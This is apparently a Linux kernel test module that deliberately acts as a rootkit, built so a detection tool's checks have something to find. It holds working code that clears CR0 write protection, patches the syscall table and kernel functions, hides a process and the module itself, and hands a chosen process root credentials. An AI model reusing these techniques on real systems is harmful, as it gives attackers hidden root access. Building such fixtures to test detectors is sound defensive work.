// SPDX-License-Identifier: GPL-2.0
// kp_rootkit: a test module for kpeek's `check`, built by the QEMU suite
// against Debian's linux-headers for the guest kernel and loaded in the
// guest. It does what /dev/kmem-era and current rootkits do, each technique
// once, so that each of kpeek's checks has something real to find:
//
//   hide_pid=N   the task N is unlinked from init_task.tasks (DKOM, as the
//                FU/adore family and Volatility's psxview target)
//   root_pid=N   the task N's cred and real_cred pointers set to init_cred,
//                the kernel's own credentials (a "give root" by DKOM, not
//                commit_creds(); references taken so that nothing is freed)
//   module       unlinked from the modules list (Diamorphine, Reptile): still
//                in mod_tree and in sysfs
//   table        sys_call_table[__NR_kill] = kp_rootkit_kill (Diamorphine),
//                written with CR0.WP cleared
//   ftrace       an ftrace_ops on __x64_sys_getdents64 (the ftrace-hook family)
//   kprobe       a kprobe on __x64_sys_openat with a pre-handler here
//   tracepoint   a probe on the sched_process_fork tracepoint
//   inline       the first bytes of __x64_sys_acct replaced by a jmp to
//                kp_rootkit_acct (a handler with the same signature)
//
// It hides nothing from a user: the table entry is not what 6.1 dispatches
// through (x64_sys_call()), the hooks do nothing, acct(2) returns -EPERM. It
// never unloads (it is not in the modules list any more).
// Each technique reports itself on the console as "kp_rootkit: NAME ADDRESS"
// for the suite (the expected findings).
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/syscalls.h>
#include <linux/tracepoint.h>
#include <asm/special_insns.h>

MODULE_LICENSE("GPL");	// register_ftrace_function, find_vpid are GPL-only
MODULE_DESCRIPTION("kpeek test rootkit (QEMU suite only)");

static int hide_pid;
module_param(hide_pid, int, 0);
static int root_pid;
module_param(root_pid, int, 0);

typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn lookup;

// kallsyms_lookup_name is not exported since 5.7: rootkits find it with a
// kprobe, whose address field the kernel fills in.
static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err)
		return err;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

// CR0.WP off lets ring 0 write read-only pages; native_write_cr0() would
// put WP back (CR0 pinning, 5.3), so the write is done here.
static void write_ro(void *dst, const void *src, size_t n)
{
	unsigned long cr0 = native_read_cr0(), flags;

	local_irq_save(flags);
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, n);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static long kp_rootkit_kill(const struct pt_regs *regs)
{
	return -ESRCH;
}

static long kp_rootkit_acct(const struct pt_regs *regs)
{
	return -EPERM;
}

static void notrace kp_rootkit_ftrace(unsigned long ip, unsigned long parent_ip,
				      struct ftrace_ops *op, struct ftrace_regs *fregs)
{
}

static struct ftrace_ops rk_ops = {
	.func = kp_rootkit_ftrace,
	.flags = FTRACE_OPS_FL_RECURSION,
};

static int kp_rootkit_pre(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe rk_kprobe = {
	.symbol_name = "__x64_sys_openat",
	.pre_handler = kp_rootkit_pre,
};

static void kp_rootkit_probe(void *data, struct task_struct *parent, struct task_struct *child)
{
}

static void find_tracepoint(struct tracepoint *tp, void *priv)
{
	if (!strcmp(tp->name, "sched_process_fork"))
		*(struct tracepoint **)priv = tp;
}

static void hook_tracepoint(void)
{
	struct tracepoint *tp = NULL;
	int err = -ENOENT;

	for_each_kernel_tracepoint(find_tracepoint, &tp);
	if (tp)
		err = tracepoint_probe_register(tp, kp_rootkit_probe, NULL);
	if (err)
		pr_info("kp_rootkit: tracepoint failed %d\n", err);
	else
		pr_info("kp_rootkit: tracepoint sched_process_fork %px\n", (void *)kp_rootkit_probe);
}

static void hook_table(void)
{
	unsigned long *table = (unsigned long *)lookup("sys_call_table");
	unsigned long hook = (unsigned long)kp_rootkit_kill;

	if (!table) {
		pr_info("kp_rootkit: table failed\n");
		return;
	}
	write_ro(&table[__NR_kill], &hook, sizeof(hook));
	pr_info("kp_rootkit: table sys_call_table[%d] %px\n", __NR_kill, (void *)hook);
}

static void hook_inline(void)
{
	unsigned char *fn = (unsigned char *)lookup("__x64_sys_acct");
	unsigned char jmp[5] = { 0xe9 };
	s32 rel;

	if (!fn) {
		pr_info("kp_rootkit: inline failed\n");
		return;
	}
	rel = (s32)((unsigned long)kp_rootkit_acct - ((unsigned long)fn + 5));
	memcpy(jmp + 1, &rel, 4);
	write_ro(fn, jmp, sizeof(jmp));
	pr_info("kp_rootkit: inline __x64_sys_acct %px\n", (void *)kp_rootkit_acct);
}

static void hook_ftrace(void)
{
	static unsigned char name[] = "__x64_sys_getdents64";
	int err = ftrace_set_filter(&rk_ops, name, strlen(name), 0);

	if (!err)
		err = register_ftrace_function(&rk_ops);
	if (err)
		pr_info("kp_rootkit: ftrace failed %d\n", err);
	else
		pr_info("kp_rootkit: ftrace __x64_sys_getdents64 %px\n", (void *)kp_rootkit_ftrace);
}

static void hook_kprobe(void)
{
	int err = register_kprobe(&rk_kprobe);

	if (err)
		pr_info("kp_rootkit: kprobe failed %d\n", err);
	else
		pr_info("kp_rootkit: kprobe __x64_sys_openat %px\n", (void *)kp_rootkit_pre);
}

static void hide_task(void)
{
	struct task_struct *t;

	if (!hide_pid)
		return;
	rcu_read_lock();
	t = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
	if (t)
		list_del_init(&t->tasks);
	rcu_read_unlock();
	if (t)
		pr_info("kp_rootkit: task %d %px\n", hide_pid, t);
	else
		pr_info("kp_rootkit: task failed\n");
}

static void give_root(void)
{
	struct task_struct *t;
	struct cred *init_cred = (struct cred *)lookup("init_cred");

	if (!root_pid || !init_cred) {
		if (root_pid)
			pr_info("kp_rootkit: cred failed\n");
		return;
	}
	rcu_read_lock();
	t = pid_task(find_vpid(root_pid), PIDTYPE_PID);
	if (t) {
		get_cred(init_cred);
		get_cred(init_cred);
		rcu_assign_pointer(t->real_cred, init_cred);
		rcu_assign_pointer(t->cred, init_cred);
	}
	rcu_read_unlock();
	if (t)
		pr_info("kp_rootkit: cred %d %px\n", root_pid, t);
	else
		pr_info("kp_rootkit: cred failed\n");
}

static int __init kp_rootkit_init(void)
{
	int err = find_lookup();

	if (err) {
		pr_info("kp_rootkit: lookup failed %d\n", err);
		return err;
	}
	hook_table();
	hook_inline();
	hook_ftrace();
	hook_kprobe();
	hook_tracepoint();
	hide_task();
	give_root();
	list_del(&THIS_MODULE->list);
	pr_info("kp_rootkit: module %px\n", THIS_MODULE);
	return 0;
}
module_init(kp_rootkit_init);
